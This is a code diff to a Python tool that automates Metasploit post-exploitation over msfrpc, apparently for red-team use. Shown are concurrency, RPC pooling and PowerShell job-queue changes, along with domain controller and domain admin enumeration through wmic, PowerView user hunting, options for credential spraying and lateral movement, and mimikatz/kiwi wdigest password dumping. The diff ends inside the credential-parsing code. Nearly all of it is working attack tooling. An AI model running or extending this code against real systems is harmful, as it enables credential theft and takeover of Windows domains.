@@ -3,29 +3,65 @@
 import re
 import os
 import sys
+import json
 import time
+import heapq
+import shutil
+import hashlib
 import signal
-from msfrpc.msfrpc import Msfrpc
+import tempfile
+import contextlib
+from msfrpc.msfrpc import AsyncMsfrpc, ShardedMsfrpc, MsfAuthError
 import string
 import random
 import asyncio
 import argparse
 import netifaces
+from collections import deque, namedtuple
 from IPython import embed
 from termcolor import colored
 from netaddr import IPNetwork, AddrFormatError
 from subprocess import Popen, PIPE, CalledProcessError
 from libnmap.parser import NmapParser, NmapParserException
 
-def parse_args():
+def parse_args(argv=None):
     # Create the arguments
     parser = argparse.ArgumentParser()
     parser.add_argument("-l", "--hostlist", help="Host list file")
     parser.add_argument("-x", "--xml", help="Path to Nmap XML file")
     parser.add_argument("-p", "--password", default="123", help="Password for msfrpc")
     parser.add_argument("-u", "--username", default="msf", help="Username for msfrpc")
+    parser.add_argument("-r", "--rpc", nargs='+', default=["127.0.0.1:55552"],
+                        help="msfrpc server addresses as host:port[@lhost], several spread the work across them. "
+                             "LHOST defaults to our IP for a local server and the server's address otherwise")
+    parser.add_argument("--max-in-flight", default=10, type=int, help="Maximum concurrent msfrpc requests")
+    parser.add_argument("--rpc-cache-ttl", default=0.25, type=float, help="Seconds to reuse console/session/job list results")
+    parser.add_argument("--rpc-stats", help="File to dump RPC stats to as JSON on exit, SIGUSR1 or timer")
+    parser.add_argument("--rpc-stats-interval", default=0, type=float, help="Seconds between RPC stats dumps, 0 to disable")
+    parser.add_argument("--consoles-min", default=5, type=int, help="Consoles to keep open per msfrpc server")
+    parser.add_argument("--consoles-max", default=20, type=int, help="Most consoles to open per msfrpc server as work queues up")
+    parser.add_argument("--console-idle", default=60, type=float, help="Seconds a console above the minimum can sit idle before it's closed")
+    parser.add_argument("--max-jobs", default=10, type=int, help="Concurrent module.execute jobs per msfrpc server")
+    parser.add_argument("--max-workers", default=20, type=int, help="Concurrent credential sprays and lateral movement attempts per msfrpc server")
+    parser.add_argument("--max-per-target", default=1, type=int, help="Concurrent attempts against one host, or sprays of one account")
+    parser.add_argument("--spray-retries", default=2, type=int, help="Times to rerun a credential spray that errored or timed out")
+    parser.add_argument("--shell-retries", default=2, type=int, help="Times to retry opening a shell with admin creds that didn't yield a session")
+    parser.add_argument("--priority-userhunter", default=4, type=int, help="Target priority weight for hosts where userhunter found a domain admin")
+    parser.add_argument("--priority-dc", default=2, type=int, help="Target priority weight for domain controllers")
+    parser.add_argument("--priority-no-admin", default=1, type=int, help="Target priority weight for hosts without an admin session")
+    parser.add_argument("--console-modules", action="store_true", help="Run exploits through consoles instead of module.execute")
+    parser.add_argument("--poll-min", default=0.05, type=float, help="Seconds before the first read of meterpreter output")
+    parser.add_argument("--poll-max", default=1, type=float, help="Longest wait between meterpreter output reads")
+    parser.add_argument("--poll-factor", default=2, type=float, help="Backoff multiplier between empty meterpreter reads")
+    parser.add_argument("--psh-job-timeout", default=1800, type=float, help="Seconds to wait for a PowerShell job to finish")
+    parser.add_argument("--psh-poll-max", default=15, type=float, help="Longest wait between checks for a finished PowerShell job")
+    parser.add_argument("--timeout-floor", default=5, type=float, help="Shortest learned command timeout in seconds")
+    parser.add_argument("--timeout-ceiling", default=300, type=float, help="Longest learned command timeout in seconds")
+    parser.add_argument("--timeout-profile", help="JSON file to load and save learned command timeouts")
+    parser.add_argument("--work-dir", help="Directory for host files passed to modules, a temp dir by default")
+    parser.add_argument("--output-mem-cap", default=1048576, type=int, help="Bytes of command output kept in memory before spilling to a temp file")
     parser.add_argument("--debug", action="store_true", help="Debug info")
-    return parser.parse_args()
+    return parser.parse_args(argv)
 
 def convert_num(num):
     if type(num) == int:
@@ -68,7 +104,7 @@ def print_debug(msg, label, num):
 def debug_info(output, label, label_num):
     if args.debug:
         if output:
-            for l in output.splitlines():
+            for l in output.lines():
                 l = l.decode('utf8')
                 print_debug(l, label, label_num)
         else:
@@ -81,14 +117,38 @@ def end_script():
 def kill_tasks():
     print()
     print_info('Killing tasks then exiting', None, None)
-    del_unchecked_hosts_files()
-    for task in asyncio.Task.all_tasks():
+    if host_files:
+        host_files.cleanup()
+    all_tasks = getattr(asyncio, 'all_tasks', None) or asyncio.Task.all_tasks
+    for task in all_tasks():
         task.cancel()
 
-def del_unchecked_hosts_files():
-    for f in os.listdir():
-        if f.startswith('unchecked_hosts-') and f.endswith('.txt'):
-            os.remove(f)
+def dump_rpc_stats(client, consoles=None):
+    stats = client.stats_snapshot()
+    if consoles:
+        stats['consoles'] = consoles.stats()
+    if spread_workers:
+        stats['workers'] = spread_workers.stats()
+    if args.rpc_stats:
+        with open(args.rpc_stats, 'w') as f:
+            json.dump(stats, f, indent=2)
+        print_info('RPC stats written to {}'.format(args.rpc_stats), None, None)
+    else:
+        by_time = sorted(stats['methods'].items(), key=lambda x: x[1]['latency_total'], reverse=True)
+        for method, m in by_time:
+            msg = '{} - {} calls, {} coalesced, {} errors, {:.1f}ms mean, {:.1f}ms max, {} bytes in'.format(
+                      method, m['calls'], m['coalesced'], m['errors'],
+                      m['latency_mean'] * 1000, m['latency_max'] * 1000, m['bytes_received'])
+            print_info(msg, None, None)
+        if consoles:
+            consoles.report()
+        if spread_workers:
+            spread_workers.report()
+
+async def dump_rpc_stats_periodically(client, consoles, interval):
+    while True:
+        await asyncio.sleep(interval)
+        dump_rpc_stats(client, consoles)
 
 def get_local_ip(iface):
     '''
@@ -128,15 +188,15 @@ async def run_sysinfo(client, sess_num, sess_data):
     end_strs = [b'Meterpreter     : ']
     api_call = 'run_single'
 
-    await make_session_busy(sess_num, sess_data)
-    output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs)
-    make_session_not_busy(sess_num, sess_data)
+    output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs,
+                                        priority=SESSION_PRIORITY_RECON)
 
-    if err:
-        print_bad('Session appears to be broken', 'Session', sess_num)
-        return [b'ERROR']
-    else:
-        sysinfo_split = output.splitlines()
+    with output:
+        if err:
+            print_bad('Session appears to be broken', 'Session', sess_num)
+            return [b'ERROR']
+        else:
+            sysinfo_split = output.getvalue().splitlines()
 
     return sysinfo_split
 
@@ -145,15 +205,14 @@ async def run_getuid(client, sess_num, sess_data):
     cmd = 'getuid'
     end_strs = [b'Server username:']
 
-    await make_session_busy(sess_num, sess_data)
-    output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs)
-    make_session_not_busy(sess_num, sess_data)
+    output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs,
+                                        priority=SESSION_PRIORITY_RECON)
    
-    if err:
-        print_bad('Session appears to be dead', 'Session', sess_num)
-        return [b'ERROR']
-    else:
-        user = output.split(b'Server username: ')[-1].strip().strip()
+    with output:
+        if err:
+            print_bad('Session appears to be dead', 'Session', sess_num)
+            return [b'ERROR']
+        user = output.getvalue().split(b'Server username: ')[-1].strip().strip()
         sess_data[sess_num][b'user'] = user
         getuid = b'User            : ' + user
         return getuid
@@ -209,13 +268,12 @@ async def sess_first_check(lock, client, sess_num, sess_data, domain_data):
 
         sess_num_str = str(sess_num)
         print_good('New session {} found'.format(sess_num_str), 'Session', sess_num)
-        clear_buffer = client.call('session.meterpreter_read', [sess_num_str])
+        await clear_session_output(client, sess_num, sess_data)
 
         # Give it time to open
         print_info('Waiting 5 seconds for the session to completely open', 'Session', sess_num)
         await asyncio.sleep(5)
 
-        sess_data[sess_num][b'busy'] = b'False'
         sess_data[sess_num][b'first_check'] = b'False'
         sess_data[sess_num][b'errors'] = []
         sess_data[sess_num][b'session_number'] = sess_num_str.encode()
@@ -234,7 +292,7 @@ async def sess_first_check(lock, client, sess_num, sess_data, domain_data):
             await run_userhunter(client, sess_num, sess_data, domain_data)
 
         # Get shell privileges
-        admin_shell, local_admin = await check_privs(client, sess_num, sess_data)
+        admin_shell, local_admin = await check_privs(client, sess_num, sess_data, domain_data)
 
 #        # Get session domain from shell info
         #domain = get_domain(shell_info)
@@ -259,39 +317,39 @@ async def domain_recon(lock, client, sess_num, sess_data, domain_data):
 
     sess_num_str = str(sess_num)
     print_info('Performing domain recon with wmic'.format(sess_num_str), 'Session', sess_num)
-    await make_session_busy(sess_num, sess_data)
-    await start_shell(client, sess_num, sess_data)
-
-    # Update sess_data and domain_data
-    domains_and_DCs = await get_domains_and_DCs(lock, client, sess_num, sess_data)
-    if domains_and_DCs:
-        for dom in domains_and_DCs:
-            print_info('Domain and controllers: {}'.format(dom), 'Session', sess_num)
-            for DC in domains_and_DCs[dom]:
-                print('                                          '+DC)
-
-            if dom in sess_data[sess_num]:
-                sess_data[sess_num][b'domain'].append(dom)
-            else:
-                sess_data[sess_num][b'domain'] = [dom]
-        domain_data['domains'].update(domains_and_DCs)
+    # Keep the shell to ourselves from start_shell to end_shell
+    async with claim_session(sess_num, sess_data, SESSION_PRIORITY_RECON):
+        await start_shell(client, sess_num, sess_data)
+
+        # Update sess_data and domain_data
+        domains_and_DCs = await get_domains_and_DCs(lock, client, sess_num, sess_data)
+        if domains_and_DCs:
+            for dom in domains_and_DCs:
+                print_info('Domain and controllers: {}'.format(dom), 'Session', sess_num)
+                for DC in domains_and_DCs[dom]:
+                    print('                                          '+DC)
+
+                if dom in sess_data[sess_num]:
+                    sess_data[sess_num][b'domain'].append(dom)
+                else:
+                    sess_data[sess_num][b'domain'] = [dom]
+            domain_data['domains'].update(domains_and_DCs)
 
-    # Update master list of DCs
-    all_DCs = await combine_DCs(lock, domain_data)
-    domain_data['domain_controllers'] = all_DCs
+        # Update master list of DCs
+        all_DCs = await combine_DCs(lock, domain_data)
+        domain_data['domain_controllers'] = all_DCs
 
-    # Get DAs
-    DAs = await get_domain_admins(lock, client, sess_num, sess_data, domain_data)
-    for da in DAs:
-        print_info('Domain admin: '+da, 'Session', sess_num)
-    domain_data['domain_admins'] = DAs
+        # Get DAs
+        DAs = await get_domain_admins(lock, client, sess_num, sess_data, domain_data)
+        for da in DAs:
+            print_info('Domain admin: '+da, 'Session', sess_num)
+        domain_data['domain_admins'] = DAs
 
-    await end_shell(client, sess_num, sess_data)
-    make_session_not_busy(sess_num, sess_data)
+        await end_shell(client, sess_num, sess_data)
 
 async def combine_DCs(lock, domain_data):
     all_DCs = []
-    with await lock:
+    async with lock:
         for d in domain_data['domains']:
             all_DCs += [x for x in domain_data['domains'][d]]
     return all_DCs
@@ -365,24 +423,25 @@ async def run_priv_migrate(client, sess_num, sess_data):
                 b'[+] Already in',
                 b'[+] Successfully migrated to']
     output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs)
+    output.close()
     if err:
         return err
 
-async def check_privs(client, sess_num, sess_data):
+async def check_privs(client, sess_num, sess_data, domain_data):
 
     cmd = 'run post/windows/gather/win_privs'
     end_strs = [b'==================']
 
-    await make_session_busy(sess_num, sess_data)
-    output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs)
-    make_session_not_busy(sess_num, sess_data)
+    output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs,
+                                        priority=SESSION_PRIORITY_RECON)
+    with output:
+        split_out = output.getvalue().splitlines()
+
     if err:
         admin_shell = b'ERROR'
         local_admin = b'ERROR'
 
     else:
-        split_out = output.splitlines()
-
         # Sometimes gets extra output from priv_migrate in this output
         offset = 5
         for num,l in enumerate(split_out):
@@ -398,6 +457,9 @@ async def check_privs(client, sess_num, sess_data):
     sess_data[sess_num][b'admin_shell'] = admin_shell
     sess_data[sess_num][b'local_admin'] = local_admin
 
+    # An admin shell on an IP means spread() can stop targeting it
+    queue_work(domain_data, WORK_SESSION, sess_num)
+
     return (admin_shell, local_admin)
 
 async def exec_process(*cmd):
@@ -428,24 +490,30 @@ async def start_shell(client, sess_num, sess_data):
     cmd = 'shell'
     end_strs = [b'>']
     output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs)
+    output.close()
 
 async def end_shell(client, sess_num, sess_data):
     ''' ends OS cmd prompt on a meterpreter session '''
     cmd = 'exit'
     end_strs = [b'exit']
     output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs, api_call='write')
+    output.close()
 
 async def get_domains_and_DCs(lock, client, sess_num, sess_data):
     print_info('Getting domain controller', 'Session', sess_num)
 
-    cmd = 'wmic NTDOMAIN GET DomainControllerAddress,DomainName /VALUE'
-    end_strs = [b'>']
+    # Look up the write path while we're in the shell so get_writeable_path
+    # doesn't need to drop into one again later
+    results = await run_shell_cmds(client, sess_num, sess_data, WRITE_PATH_CMDS)
+    if len(results) == len(WRITE_PATH_CMDS):
+        store_write_path(sess_num, sess_data, results[0], results[1])
 
-    output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs, api_call='write')
-    if err:
+    cmd = 'wmic NTDOMAIN GET DomainControllerAddress,DomainName /VALUE'
+    results = await run_shell_cmds(client, sess_num, sess_data, [cmd])
+    if not results:
         return
 
-    output = output.decode('utf8')
+    output = os.linesep.join(results[0])
 
     domains_and_DCs = parse_domain_wmic(output)
 
@@ -505,35 +573,41 @@ def parse_domain_wmic(output):
 async def get_domain_admins(lock, client, sess_num, sess_data, domain_data):
     ''' Session is dropped into a cmd prompt prior to this function running '''
     print_info('Getting domain admins', 'Session', sess_num)
-    end_strs = [b'>']
 
     domain_admins = []
     domains = []
 
     # Get domains
-    with await lock:
+    async with lock:
         for domain in domain_data['domains']:
             domains.append(domain.lower())
 
-    for domain in domains:
-        cmd = 'wmic path win32_groupuser where (groupcomponent=\'win32_group.name="domain admins",domain="{}"\')'.format(domain)
-        await make_session_busy(sess_num, sess_data)
-        output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs, api_call='write')
-        make_session_not_busy(sess_num, sess_data)
-        if err:
-            continue
-        DAs = await parse_wmic_DA_out(output)
-        domain_admins += DAs
+    if not domains:
+        return domain_admins
+
+    # One batch for every domain
+    while domains:
+        cmds = []
+        for domain in domains:
+            cmd = 'wmic path win32_groupuser where (groupcomponent=\'win32_group.name="domain admins",domain="{}"\')'.format(domain)
+            cmds.append(cmd)
+
+        results = await run_shell_cmds(client, sess_num, sess_data, cmds)
+        for out_lines in results:
+            DAs = await parse_wmic_DA_out(out_lines)
+            domain_admins += DAs
+
+        # A domain whose query errored or hung is skipped and the ones after it go in another batch
+        domains = domains[len(results)+1:]
 
     return domain_admins
 
-async def parse_wmic_DA_out(output):
+async def parse_wmic_DA_out(out_lines):
     ''' example line:
     win32_group.domain="lab2",name="domain admins"  \\WIN10-2\root\cimv2:Win32_UserAccount.Domain="lab2",Name="Administrator"
     '''
     DAs = []
-    output = output.decode('utf8')
-    for l in output.splitlines():
+    for l in out_lines:
         if 'Win32_UserAccount.Domain' in l:
             l_split = l.split()
             # \\WIN10-2\root\cimv2:Win32_UserAccount.Domain="lab2",Name="Administrator"
@@ -554,59 +628,125 @@ def update_session(msf_sess, msf_sess_num, sess_data):
         # This will not change any of the MSF session data, just add new key:value pairs
         sess_data[msf_sess_num] = add_session_keys(msf_sess, sess_data, msf_sess_num)
     else:
-        sess_data[msf_sess_num] = msf_sess
+        # session.list results are shared between coalesced callers
+        sess_data[msf_sess_num] = dict(msf_sess)
 
-async def get_windir(client, sess_num, sess_data):
-    cmd = 'echo %WINDIR%'
-    end_strs = [b'>']
-    output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs, api_call='write')
-    if err:
-        return
-
-    output = output.decode('utf8')
-    for l in output.splitlines():
+def find_path(out_lines):
+    for l in out_lines:
         if ':\\' in l:
-            windir = l.strip()
-            return windir
+            return l.strip()
+
+# %WINDIR% for SYSTEM, %USERPROFILE% for everyone else
+WRITE_PATH_CMDS = ['echo %WINDIR%', 'echo %USERPROFILE%']
+
+def store_write_path(sess_num, sess_data, windir_lines, profile_lines):
+    # System's write path will just be C:\windows\temp
+    if b'authority\\system' in sess_data[sess_num][b'user'].lower():
+        windir = find_path(windir_lines)
+        if windir:
+            sess_data[sess_num][b'write_path'] = windir+'\\temp'
+
+    # Regular user write path will be something like "C:\users\username\AppData\Local"
+    else:
+        home_dir = find_path(profile_lines)
+        if home_dir:
+            sess_data[sess_num][b'write_path'] = '{}\\AppData\\Local'.format(home_dir)
+
+    return sess_data[sess_num].get(b'write_path')
 
 async def run_psh_cmd_with_output(client, sess_num, sess_data, ps_cmd):
+    ''' Queues a PowerShell command on the session's job runner and returns its
+    output as a DownloadedFile once the job finishes '''
+    psh_jobs = get_powershell_jobs(client, sess_num, sess_data)
+    output = await psh_jobs.run(ps_cmd)
+    return output
+
+class PowershellJobs:
+    '''
+    Per-session PowerShell job queue. The powershell extension only runs one
+    command at a time so a single worker per session takes jobs in order.
+    The session itself is only claimed per command, other meterpreter
+    commands can run while a job is going
+    '''
+
+    def __init__(self, client, sess_num, sess_data):
+        self.client = client
+        self.sess_num = sess_num
+        self.sess_data = sess_data
+        self.queue = asyncio.Queue()
+        self.worker = None
+
+    async def run(self, ps_cmd):
+        fut = asyncio.get_event_loop().create_future()
+        self.queue.put_nowait((ps_cmd, fut))
+        if self.worker is None:
+            self.worker = asyncio.ensure_future(self.work())
+        return await fut
+
+    async def work(self):
+        while True:
+            ps_cmd, fut = await self.queue.get()
+            if fut.done():
+                continue
+            try:
+                output = await run_psh_job(self.client, self.sess_num, self.sess_data, ps_cmd)
+            except asyncio.CancelledError:
+                fut.cancel()
+                raise
+            except Exception as e:
+                if not fut.done():
+                    fut.set_exception(e)
+            else:
+                if not fut.done():
+                    fut.set_result(output)
+
+def get_powershell_jobs(client, sess_num, sess_data):
+    if b'psh_jobs' not in sess_data[sess_num]:
+        sess_data[sess_num][b'psh_jobs'] = PowershellJobs(client, sess_num, sess_data)
+    return sess_data[sess_num][b'psh_jobs']
+
+async def run_psh_job(client, sess_num, sess_data, ps_cmd):
     ''' There is no timeout setting for the powershell plugin in metasploit
-    so shit just times out super fast. We hack around this by running long-running
-    cmds then trying a fast cmd like write-host and wait until write-host actually
-    works '''
-    
+    so shit just times out super fast. We hack around this by redirecting the
+    output to a file and dropping a marker file once the command is done, then
+    stat the marker with backoff until it shows up. The output comes back with
+    meterpreter's download, which writes to the msfrpcd host, so sessions on
+    remote backends can't run these '''
+
+    if not backend_for(client, sess_num)['local']:
+        print_bad('PowerShell output jobs need a session on a local msfrpcd', 'Session', sess_num)
+        return
+
     write_dir = await get_writeable_path(client, sess_num, sess_data)
+    if not write_dir:
+        return
+
+    job_id = 'msfbot-'+''.join(random.choice(string.ascii_letters) for x in range(8))
+    out_path = '{}\\{}.out'.format(write_dir, job_id)
+    done_path = '{}\\{}.done'.format(write_dir, job_id)
 
-    redir_out = ' > "{}\\cache"'.format(write_dir)
-    cmd = 'powershell_execute \'{}{}\''.format(ps_cmd, redir_out)
-    end_strs = [b'ThisStringShouldNeverAppear']
+    cmd = 'powershell_execute \'{} > "{}"; New-Item -ItemType File -Force -Path "{}" | Out-Null\''.format(ps_cmd, out_path, done_path)
+    end_strs = [b'Command execution completed']
+    deadline = time.time() + args.psh_job_timeout
 
-    await make_session_busy(sess_num, sess_data)
-    # Make powershell_execute timeout immediately
     output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs)
+    output.close()
     if err:
         # Timeouts are ineffective measures of whether the cmd is done
         # because MSF doesn't have a way of changing powershell_execute
-        # timeout values. Timeouts are, however, effective at measuring
-        # when the session is back to being available so we can then
-        # try new PSH commands until they stop giving a specific error
-        if 'Rex::TimeoutError' not in err:
+        # timeout values so wait for the marker instead
+        if 'Rex::TimeoutError' not in err and not is_timeout_error(err):
             return
 
-    # Check if cmd is done yet
-    await wait_for_psh_cmd(client, sess_num, sess_data, cmd)
-    
-    # Download and read remote file
-    path = '{}\\cache'.format(write_dir)
-    output = await read_remote_file(client, sess_num, sess_data, path)
-    output = output.decode('utf16').encode('utf8')
-
-    make_session_not_busy(sess_num, sess_data)
+        if not await wait_for_psh_job(client, sess_num, sess_data, done_path, deadline):
+            return
 
-    return output
+    # Download the remote file, the caller reads and cleans it up
+    downloaded = await read_remote_file(client, sess_num, sess_data, out_path, cleanup=[done_path])
+    return downloaded
 
-async def parse_userhunter(output, sess_num, domain_data):
-    for l in output.splitlines():
+async def parse_userhunter(out_lines, sess_num, domain_data):
+    for l in out_lines:
         l = l.strip()
         if b'IPAddress       :' in l:
             ip = l.split()[-1].decode('utf8')
@@ -616,77 +756,154 @@ async def parse_userhunter(output, sess_num, domain_data):
 
     domain_data['high_priority_ips'].remove('pending')
 
-async def read_remote_file(client, sess_num, sess_data, path):
-    cmd = 'download "{}"'.format(path)
+class DownloadedFile:
+    '''
+    A file downloaded from a session into its own temp directory so
+    concurrent downloads of the same remote name can't collide. lines()
+    decodes it as it reads. Use it as a context manager or call close()
+    to remove the temp directory
+    '''
+
+    def __init__(self, sess_num):
+        self.tmpdir = tempfile.TemporaryDirectory(prefix='msfbot-session{}-'.format(convert_num(sess_num)))
+        self.path = None
+
+    def local_path(self, remote_path):
+        return os.path.join(self.tmpdir.name, remote_path.split('\\')[-1])
+
+    def exists(self):
+        return self.path is not None and os.path.exists(self.path)
+
+    def lines(self, encoding='utf16'):
+        ''' Yields utf8 encoded lines, PowerShell redirects write UTF-16 '''
+        with open(self.path, 'r', encoding=encoding, errors='replace', newline='') as f:
+            for l in f:
+                yield l.rstrip('\r\n').encode('utf8')
+
+    def close(self):
+        self.tmpdir.cleanup()
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, exc_type, exc, tb):
+        self.close()
+
+async def read_remote_file(client, sess_num, sess_data, path, cleanup=()):
+    downloaded = DownloadedFile(sess_num)
+    downloaded.path = downloaded.local_path(path)
+
+    cmd = 'download "{}" "{}"'.format(path, downloaded.tmpdir.name + os.sep)
     end_strs = [b'[*] download   :', b'[*] skipped    :']
     output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs)
-    if err:
+    output.close()
+    if err or not downloaded.exists():
+        downloaded.close()
         return
 
-    cmd = 'rm "{}"'.format(path)
+    # Any other files the caller is done with go in the same rm
+    cmd = 'rm ' + ' '.join('"{}"'.format(f) for f in [path] + list(cleanup))
     # rm will return None which is caught as the end of the command
     output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs, timeout=5)
+    output.close()
+
+    return downloaded
+
+async def wait_for_psh_job(client, sess_num, sess_data, done_path, deadline):
+    ''' stat is a meterpreter command so it works while the PowerShell
+    runspace is still busy. Backs off from 1 second up to --psh-poll-max
+    and keeps trying through failed stats until the deadline unless the
+    session itself is gone '''
+    cmd = 'stat "{}"'.format(done_path)
+    end_strs = [b'Meta data for']
+    interval = 1
+
+    while time.time() < deadline:
+        await asyncio.sleep(min(interval, max(deadline - time.time(), 0)))
+        output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs,
+                                            priority=SESSION_PRIORITY_BACKGROUND)
+        output.close()
+        if not err:
+            return True
 
-    filename = path.split('\\')[-1]
-    with open(filename, 'rb') as f:
-        content = f.read()
+        # Marker isn't there yet, the stat timed out or meterpreter hiccuped
+        if is_session_dead_error(err):
+            return False
 
-    return content
+        interval = min(interval * args.poll_factor, args.psh_poll_max)
 
-async def wait_for_psh_cmd(client, sess_num, sess_data, cmd):
-    while True:
-        running_ps_cmd = cmd.split()[1][1:] # knock off the first '
-        end_str = 'Checking if [{}] has finished'.format(running_ps_cmd).encode()
-        checking_cmd = 'powershell_execute "write-host Checking if [{}] has finished"'.format(running_ps_cmd)
-        end_strs = [end_str]
-        output, err = await run_session_cmd(client, sess_num, sess_data, checking_cmd, end_strs, api_call='write')
-        if not err:
-            break
-        await asyncio.sleep(15)
+    print_bad('PowerShell job did not finish within {:.0f}s'.format(args.psh_job_timeout), 'Session', sess_num)
+    return False
 
 async def get_writeable_path(client, sess_num, sess_data):
-    if b'write_dir' in sess_data[sess_num]:
-        write_dir = sess_data[sess_num][b'write_dir']
-        return write_dir
+    if b'write_path' in sess_data[sess_num]:
+        write_path = sess_data[sess_num][b'write_path']
+        return write_path
 
-    await make_session_busy(sess_num, sess_data)
-    await start_shell(client, sess_num, sess_data)
+    async with claim_session(sess_num, sess_data):
+        await start_shell(client, sess_num, sess_data)
+        results = await run_shell_cmds(client, sess_num, sess_data, WRITE_PATH_CMDS)
+        await end_shell(client, sess_num, sess_data)
 
-    # System's write path will just be C:\windows\temp
-    if b'authority\\system' in sess_data[sess_num][b'user'].lower():
-        windir = await get_windir(client, sess_num, sess_data)
-        write_path = windir+'\\temp'
-        sess_data[sess_num][b'write_path'] = write_path
+    if len(results) < len(WRITE_PATH_CMDS):
+        return
 
-    # Regular user write path will be something like "C:\users\username\AppData\Local"
-    else:
-        # Get user's home directory
-        cmd = 'echo %USERPROFILE%'
-        out_lines = await run_shell_cmd(client, sess_num, sess_data, cmd)
-        if out_lines:
-            for l in out_lines:
-                if ":\\" in l:
-                    home_dir = l.strip()
-                    break
+    return store_write_path(sess_num, sess_data, results[0], results[1])
 
-            write_path = '{}\\AppData\\Local'.format(home_dir)
-            sess_data[sess_num][b'write_path'] = write_path
+SHELL_PROMPT_RE = re.compile(r'^[a-zA-Z]:\\[^>]*>$')
 
-    make_session_not_busy(sess_num, sess_data)
-    await end_shell(client, sess_num, sess_data)
+async def run_shell_cmds(client, sess_num, sess_data, cmds, timeout=None):
+    '''
+    Runs several cmd.exe commands with a single write. Each command is followed
+    by an echo of a unique sentinel which is caret-escaped so that cmd.exe's
+    echo of the typed line can't be mistaken for it. The output is split back
+    into one list of lines per command with the prompts and typed lines removed.
+    If the batch errors or times out only the commands whose sentinel came
+    back are returned, so the list can be shorter than cmds
+    '''
+    token = ''.join(random.choice(string.ascii_letters) for x in range(8))
+    sentinels = ['MSFBOT-{}-{}'.format(token, num) for num in range(len(cmds))]
+
+    batch = []
+    for cmd, sentinel in zip(cmds, sentinels):
+        batch.append(cmd)
+        batch.append('echo MSF^BOT-{}'.format(sentinel.split('-', 1)[1]))
+    batch = '\n'.join(batch)
+
+    end_strs = [sentinels[-1].encode()]
+    output, err = await run_session_cmd(client, sess_num, sess_data, batch, end_strs, api_call='write', timeout=timeout)
+    with output:
+        return split_shell_output(output, cmds, sentinels)
+
+def split_shell_output(output, cmds, sentinels):
+    results = [[] for cmd in cmds]
+    num = 0
+    for l in output.lines():
+        if num == len(cmds):
+            break
 
-    return write_path
+        l = l.decode('utf8')
+        stripped = l.strip()
 
-async def run_shell_cmd(client, sess_num, sess_data, cmd):
-    end_strs = [b'>']
-    output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs, api_call='write')
-    if err:
-        return
-    
-    return output.decode('utf8').splitlines()
+        if stripped == sentinels[num]:
+            num += 1
+            continue
+
+        # Typed lines come back after the prompt
+        if 'MSF^BOT-' in l or stripped.endswith(cmds[num]) or SHELL_PROMPT_RE.match(stripped):
+            continue
+
+        results[num].append(l)
+
+    # Only commands whose sentinel came back finished
+    return results[:num]
 
 async def run_userhunter(client, sess_num, sess_data, domain_data):
 
+    # powershell_import and the job's download both use the msfrpcd host's filesystem
+    if not backend_for(client, sess_num)['local']:
+        return
+
     print_info('Running Find-DomainUserLocation to collect IPs that domain admins are on', 'Session', sess_num)
 
     domain_data['high_priority_ips'].append('pending')
@@ -704,9 +921,10 @@ async def run_userhunter(client, sess_num, sess_data, domain_data):
         return
 
     cmd = 'Find-DomainUserLocation'
-    output = await run_psh_cmd_with_output(client, sess_num, sess_data, cmd)
-    if output:
-        await parse_userhunter(output, sess_num, domain_data)
+    downloaded = await run_psh_cmd_with_output(client, sess_num, sess_data, cmd)
+    if downloaded:
+        with downloaded:
+            await parse_userhunter(downloaded.lines(), sess_num, domain_data)
     else:
         domain_data['high_priority_ips'].remove('pending')
 
@@ -715,9 +933,8 @@ async def powershell_import(client, sess_num, sess_data, script_path):
     cmd = 'powershell_import '+ script_path
     end_strs = [b'successfully imported']
 
-    await make_session_busy(sess_num, sess_data)
     output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs)
-    make_session_not_busy(sess_num, sess_data)
+    output.close()
 
     return (output, err)
 
@@ -725,15 +942,13 @@ async def load_met_plugin(client, sess_num, sess_data, plugin):
     cmd = 'load '+plugin
     end_strs = [b'Success.', b'has already been loaded.']
 
-    await make_session_busy(sess_num, sess_data)
     output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs)
-    make_session_not_busy(sess_num, sess_data)
+    output.close()
 
     return (output, err)
 
-async def run_mimikatz(lock, client, sess_num, sess_data, domain_data):
+async def run_mimikatz(lock, client, consoles, sess_num, sess_data, domain_data):
 
-    # Load_met_plugin already keeps the session busy
 #    plugin = 'mimikatz'
     plugin = 'kiwi'
     output, err = await load_met_plugin(client, sess_num, sess_data, plugin)
@@ -743,84 +958,85 @@ async def run_mimikatz(lock, client, sess_num, sess_data, domain_data):
     cmd = 'wdigest'
     end_strs = [b'    Password']
 
-    await make_session_busy(sess_num, sess_data)
     output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs)
-    make_session_not_busy(sess_num, sess_data)
 
-    if err:
-        return
+    with output:
+        if err:
+            return
 
-    mimikatz_split = output.splitlines()
-    for l in mimikatz_split:
+        for l in output.lines():
 
-        if l.startswith(b'0;'):
-            line_split = l.split(None, 4)
+            if l.startswith(b'0;'):
+                line_split = l.split(None, 4)
 
-            # Output may include accounts without a password
-            # Here's what I've seen that causes problems:
-            #ob'AuthID        Package    Domain        User               Password'
-            #b'------        -------    ------        ----               --------'
-            #b'0;1299212671  Negotiate  IIS APPPOOL   DefaultAppPool     '
-            #b'0;995         Negotiate  NT AUTHORITY  IUSR               '
-            #b'0;997         Negotiate  NT AUTHORITY  LOCAL SERVICE      '
-            #b'0;41167       NTLM                                        '
+                # Output may include accounts without a password
+                # Here's what I've seen that causes problems:
+                #ob'AuthID        Package    Domain        User               Password'
+                #b'------        -------    ------        ----               --------'
